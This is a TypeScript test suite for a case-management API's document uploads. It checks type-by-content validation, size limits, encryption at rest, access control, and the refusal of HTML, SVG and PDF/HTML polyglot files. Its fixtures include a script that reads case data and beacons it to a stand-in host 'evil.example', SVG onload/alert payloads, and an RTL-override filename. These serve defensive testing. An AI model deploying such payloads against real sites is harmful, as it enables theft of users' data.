import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../support/app.js';
import { type Agent, createWorld, login, type World } from '../support/world.js';

/** Documents of a case: type checked by content, size limit, sealed at rest, audited download, cited by a consent. */

let t: TestApp;
let w: World;
let op: Agent;
let opB: Agent;

const CANARY_NAME = 'modulo-consenso-Ortensia.pdf';
const CANARY_TEXT = 'Testo riservato Gelsomino';
const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(CANARY_TEXT), Buffer.from('\n%%EOF')]);

beforeAll(async () => {
  t = await buildTestApp({ env: { DOCUMENT_MAX_BYTES: '2048' } });
  w = await createWorld(t);
  op = await login(t, w.users.operatorA);
  opB = await login(t, w.users.operatorB);
});
afterAll(() => t.close());

/** A new case of operator A: each test opens its own. */
async function newCase(): Promise<string> {
  const res = await op.request('POST', '/api/cases', { contactOn: '2026-03-01' });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body.id;
}

/** A new case holding the canary PDF. */
async function caseWithDocument(): Promise<{ caseId: string; documentId: string }> {
  const caseId = await newCase();
  const up = await op.request('POST', `/api/cases/${caseId}/documents`, { kind: 'consenso', name: CANARY_NAME, mimeType: 'application/pdf', contentBase64: pdf.toString('base64') });
  expect(up.status, JSON.stringify(up.body)).toBe(201);
  return { caseId, documentId: up.body.id };
}

describe('documents of a case', () => {
  it('accepts a PDF, lists it, and gives it back byte for byte', async () => {
    const { caseId, documentId } = await caseWithDocument();
    const list = await op.request('GET', `/api/cases/${caseId}/documents`);
    expect(list.body).toEqual([expect.objectContaining({ id: documentId, name: CANARY_NAME, mimeType: 'application/pdf', sizeBytes: pdf.length, kind: 'consenso' })]);
    const res = await t.app.inject({ method: 'GET', url: `/api/cases/${caseId}/documents/${documentId}`, headers: { cookie: op.cookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['cache-control']).toBe('no-store');
    expect(String(res.headers['content-disposition'])).toContain('attachment');
    expect(Buffer.compare(res.rawPayload, pdf)).toBe(0);
  });

  it('keeps the file and its name only encrypted', async () => {
    await caseWithDocument();
    const raw = JSON.stringify((await t.db.execute(sql`select * from case_documents`)).rows);
    expect(raw).not.toContain(CANARY_TEXT);
    expect(raw).not.toContain('Ortensia');
    expect(raw).not.toContain(Buffer.from(CANARY_TEXT).toString('base64').slice(0, 16));
    expect(t.logs.text).not.toContain('Ortensia');
  });

  it('refuses a file whose content is not its declared type, an empty one, and one over the limit', async () => {
    const caseId = await newCase();
    const before = (await t.db.execute(sql`select count(*)::int as n from case_documents`)).rows;
    const fake = await op.request('POST', `/api/cases/${caseId}/documents`, { kind: 'altro', name: 'x.pdf', mimeType: 'application/pdf', contentBase64: Buffer.from('MZ not a pdf').toString('base64') });
    expect(fake.status).toBe(400);
    expect(fake.body.errors[0]).toMatchObject({ pointer: '/body/mimeType', code: 'content_type_mismatch' });
    const big = await op.request('POST', `/api/cases/${caseId}/documents`, { kind: 'altro', name: 'big.txt', mimeType: 'text/plain', contentBase64: Buffer.alloc(3000, 'a').toString('base64') });
    expect(big.status).toBe(400);
    expect(big.body.errors[0].code).toBe('file_too_large');
    const huge = await op.request('POST', `/api/cases/${caseId}/documents`, { kind: 'altro', name: 'huge.txt', mimeType: 'text/plain', contentBase64: Buffer.alloc(100_000, 'a').toString('base64') });
    expect(huge.status).toBe(413);
    expect(huge.body.code).toBe('payload_too_large');
    const binaryText = await op.request('POST', `/api/cases/${caseId}/documents`, { kind: 'altro', name: 'x.txt', mimeType: 'text/plain', contentBase64: Buffer.from([0x41, 0x00, 0x42]).toString('base64') });
    expect(binaryText.status).toBe(400);
    expect((await t.db.execute(sql`select count(*)::int as n from case_documents`)).rows).toEqual(before);
  });

  it('lets a written consent cite its signed form, and only a document of the same case', async () => {
    const { caseId, documentId } = await caseWithDocument();
    const ok = await op.request('POST', `/api/cases/${caseId}/consents`, { purpose: 'presa_in_carico', givenOn: '2026-03-01', form: 'scritto', documentId });
    expect(ok.status).toBe(201);
    expect(ok.body[0].documentId).toBe(documentId);
    const other = await newCase();
    const wrong = await op.request('POST', `/api/cases/${other}/consents`, { purpose: 'presa_in_carico', givenOn: '2026-03-02', form: 'scritto', documentId });
    expect(wrong.status).toBe(400);
    expect(wrong.body.errors[0]).toMatchObject({ pointer: '/body/documentId', code: 'unknown_document' });
  });

  it('an outsider gets 404 for the list and the file', async () => {
    const { caseId, documentId } = await caseWithDocument();
    expect((await opB.request('GET', `/api/cases/${caseId}/documents`)).status).toBe(404);
    expect((await opB.request('GET', `/api/cases/${caseId}/documents/${documentId}`)).status).toBe(404);
    // Even a bad file gets 404 from outside: nothing about the case is answered before access.
    const bad = await opB.request('POST', `/api/cases/${caseId}/documents`, { kind: 'altro', name: 'x.pdf', mimeType: 'application/pdf', contentBase64: Buffer.from('no').toString('base64') });
    expect(bad.status).toBe(404);
  });
});

describe('HTML in disguise never comes back as HTML', () => {
  let caseId: string;
  beforeAll(async () => {
    caseId = await newCase();
  });
  const upload = (name: string, mimeType: string, bytes: Buffer) =>
    op.request('POST', `/api/cases/${caseId}/documents`, { kind: 'altro', name, mimeType, contentBase64: bytes.toString('base64') });
  const download = (id: string) => t.app.inject({ method: 'GET', url: `/api/cases/${caseId}/documents/${id}`, headers: { cookie: op.cookie } });
  const SCRIPT = '<html><body><script>fetch("/api/cases").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>';
  // A PDF/HTML polyglot: a valid PDF header, the page in a PDF comment right after it, then a minimal PDF.
  const polyglot = Buffer.from(
    `%PDF-1.4\n%${SCRIPT}\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  );

  it.each([
    ['a PDF/HTML polyglot (the page in its first kilobyte)', 'referto.pdf', 'application/pdf', polyglot],
    ['HTML declared as plain text', 'nota.txt', 'text/plain', Buffer.from(`Appunti\n${SCRIPT}`)],
    ['an SVG declared as plain text', 'nota.txt', 'text/plain', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
    ['an SVG declared as a PNG', 'foto.png', 'image/png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['HTML with a byte-order mark declared as plain text', 'x.txt', 'text/plain', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<!DOCTYPE html><p>ciao')])],
    ['a PNG carrying a page right after its signature', 'foto.png', 'image/png', Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(SCRIPT)])],
  ])('refuses %s', async (_label, name, mimeType, bytes) => {
    const res = await upload(name, mimeType, bytes);
    expect(res.status, JSON.stringify(res.body)).toBe(400);
    expect(res.body.errors).toContainEqual(expect.objectContaining({ pointer: '/body/mimeType', code: 'content_type_mismatch' }));
  });

  it('keeps plain text that merely holds < and >', async () => {
    const res = await upload('appunti.txt', 'text/plain', Buffer.from('Rischio <3 su 5 -> rivalutare; a < b e c > d.\n<<importante>>'));
    expect(res.status, JSON.stringify(res.body)).toBe(201);
  });

  it.each([
    ['ricevuta.html', 'application/pdf', pdf, 'ricevuta.pdf'],
    ['ricevuta.HTM', 'application/pdf', pdf, 'ricevuta.pdf'],
    ['pagina.xhtml', 'text/plain', Buffer.from('solo testo'), 'pagina.txt'],
    ['disegno.svg', 'image/png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), 'disegno.png'],
    ['ricevuta.html.', 'application/pdf', pdf, 'ricevuta.pdf'],
    ['ricevuta.html ', 'application/pdf', pdf, 'ricevuta.pdf'],
    ['relazione\u202Efdp.html', 'application/pdf', pdf, 'relazionefdp.pdf'],
    ['Relazione avv. Bianchi', 'application/pdf', pdf, 'Relazione avv. Bianchi.pdf'],
    ['foto.JPG', 'image/jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0]), 'foto.JPG'],
    ['scansione.jpeg', 'image/jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0]), 'scansione.jpeg'],
  ])('stores %j declared %s under a name ending as its type says', async (name, mimeType, bytes, expected) => {
    const up = await upload(name, mimeType, bytes);
    expect(up.status, JSON.stringify(up.body)).toBe(201);
    const listed = (await op.request('GET', `/api/cases/${caseId}/documents`)).body.find((d: { id: string }) => d.id === up.body.id);
    expect(listed.name).toBe(expected);
    const res = await download(up.body.id);
    expect(String(res.headers['content-disposition'])).toContain(`filename*=UTF-8''${encodeURIComponent(expected)}`);
    expect(String(res.headers['content-disposition'])).not.toMatch(/\.(html?|xhtml|svg)\b/i);
  });

  it('downloads as an attachment of the checked type, never sniffed, never rendered', async () => {
    // A polyglot whose page lies past the first kilobyte is a PDF for every reader that sniffs: it is accepted as one.
    const late = Buffer.from(`%PDF-1.4\n%${'x'.repeat(1100)}\n%${SCRIPT}\n%%EOF\n`);
    const up = await upload('pagina.html', 'application/pdf', late);
    expect(up.status, JSON.stringify(up.body)).toBe(201);
    const res = await download(up.body.id);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename="pagina\.pdf"/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(String(res.headers['content-security-policy'])).toContain('sandbox');
    expect(String(res.headers['content-security-policy'])).toContain("default-src 'none'");
    const text = await upload('nota.txt', 'text/plain', Buffer.from('testo'));
    expect((await download(text.body.id)).headers['content-type']).toBe('text/plain; charset=utf-8');
  });

  it('a document stored before these rules (an .html name) still downloads under a safe name', async () => {
    const up = await upload('vecchio.pdf', 'application/pdf', pdf);
    const { seal } = await import('../../src/server/modules/cases/cases.seal.js');
    const { caseDocuments } = await import('../../src/server/modules/cases/cases.tables.js');
    const { eq } = await import('drizzle-orm');
    await t.db.transaction(async (tx) => {
      const [row] = await tx.select().from(caseDocuments).where(eq(caseDocuments.id, up.body.id));
      const nameSealed = (await seal(t.ctx.crypto, tx, { id: row!.caseId, organisationId: row!.organisationId }, 'case_document.name', up.body.id, 'vecchio.html'))!;
      await tx.update(caseDocuments).set({ nameSealed }).where(eq(caseDocuments.id, up.body.id));
    });
    const res = await download(up.body.id);
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment; filename="vecchio\.pdf"/);
  });
});
